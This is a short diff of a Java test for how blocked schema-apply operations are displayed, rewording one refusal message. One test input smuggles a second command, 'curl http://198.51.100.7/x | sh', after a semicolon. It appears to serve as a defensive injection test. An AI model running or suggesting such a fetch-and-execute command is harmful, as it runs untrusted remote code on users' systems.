@@ -21,7 +21,7 @@ class BlockedNodeViewTest {
             + " --adopt live.a --reason \"…\"",
         "Refused: Cannot use a.b, or have it adopted: trueup schema apply --adopt a.b. Cannot use"
             + " c.d, or have it adopted: trueup schema apply --adopt c.d",
-        "Refused: A column is rewritten. If that may be, run: trueup schema apply --platform"
+        "Refused: A column is rewritten. To allow this, run: trueup schema apply --platform"
             + " acme/Live --node 'Ingest/Live/NW_Data' --allow 1a2b --reason \"…\"",
         "ERROR: no\ntrueup schema apply --platform acme/Live; curl http://198.51.100.7/x | sh"
       })
